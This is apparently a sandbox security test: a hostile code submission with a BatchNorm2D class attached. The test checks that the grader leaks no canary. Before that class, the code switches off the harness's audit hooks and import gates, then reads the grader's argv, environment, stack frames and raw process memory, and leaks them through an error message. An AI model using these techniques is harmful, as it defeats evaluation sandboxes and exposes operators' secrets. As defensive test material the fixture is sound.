# expect: runtime_error
# Class 8: looks for the grader's command line and environment in its own memory:
# sys.orig_argv, the frames above the harness (entry.main's words), os.environ, and
# every writable mapping (numpy views any address), then puts what it found in its
# error message. The test puts a canary in the grader's command line and environment
# and checks the report does not contain it.
import os

import numpy as np


def _disarm():
    """Switch off the harness's Python-level guards (audit hook lists and closures,
    import gates), so that only the kernel layers stand in the way."""
    import gc
    import sys

    main = sys.modules.get("__main__")
    for name in ("_BLOCKED_EVENTS", "_PATH_EVENTS"):
        if main is not None and hasattr(main, name):
            setattr(main, name, frozenset())
    for obj in gc.get_objects():
        code = getattr(obj, "__code__", None)
        closure = getattr(obj, "__closure__", None)
        if code is None or not closure:
            continue
        for var, cell in zip(code.co_freevars, closure):
            if var == "inside":
                cell.cell_contents = lambda *a, **k: True
    sys.meta_path[:] = [f for f in sys.meta_path if not hasattr(f, "allowed")]


_disarm()

import sys

_found = [repr(sys.orig_argv), repr(dict(os.environ))]
_frame = sys._getframe()
while _frame is not None:
    _found.append(repr({k: v for k, v in _frame.f_locals.items() if isinstance(v, str | list | tuple)})[:2000])
    _frame = _frame.f_back
_prefix = "quizapp-canary" + "-"
for _enc in ("utf-8", "utf-32-le"):
    _needle = _prefix.encode(_enc)
    with open("/proc/self/maps") as _f:
        _maps = _f.read().splitlines()
    for _line in _maps:
        _parts = _line.split()
        if not _parts[1].startswith("rw") or (len(_parts) > 5 and not _parts[5].startswith("[")):
            continue
        _a, _b = (int(x, 16) for x in _parts[0].split("-"))

        class _View:
            __array_interface__ = {"data": (_a, False), "shape": (_b - _a,), "typestr": "|u1", "version": 3}

        _buf = np.asarray(_View()).tobytes()
        _at = _buf.find(_needle)
        while _at >= 0:
            _found.append(_buf[_at : _at + 40 * (4 if _enc != "utf-8" else 1)].decode(_enc, "replace"))
            _at = _buf.find(_needle, _at + 1)
raise RuntimeError(" | ".join(_found)[-500:] + " || " + " | ".join(f for f in _found if _prefix in f)[:3000])


class BatchNorm2D:
    def __init__(self, num_features, momentum=0.1, eps=1e-5):
        self.momentum = momentum
        self.eps = eps
        self.training = True
        self.gamma = np.ones(num_features)
        self.beta = np.zeros(num_features)
        self.running_mean = np.zeros(num_features)
        self.running_var = np.ones(num_features)

    def forward(self, x):
        axes = (0, 2, 3)
        if self.training:
            mean = x.mean(axis=axes, dtype=np.float64)
            var = x.var(axis=axes, dtype=np.float64)
            m = x.size // x.shape[1]
            self.running_mean = (1 - self.momentum) * self.running_mean + self.momentum * mean
            self.running_var = (1 - self.momentum) * self.running_var + self.momentum * var * m / (m - 1)
        else:
            mean = np.asarray(self.running_mean, dtype=np.float64)
            var = np.asarray(self.running_var, dtype=np.float64)
        s = (1, -1, 1, 1)
        g = np.asarray(self.gamma, dtype=np.float64).reshape(s)
        b = np.asarray(self.beta, dtype=np.float64).reshape(s)
        y = (x - mean.reshape(s)) / np.sqrt(var.reshape(s) + self.eps) * g + b
        return y.astype(x.dtype)
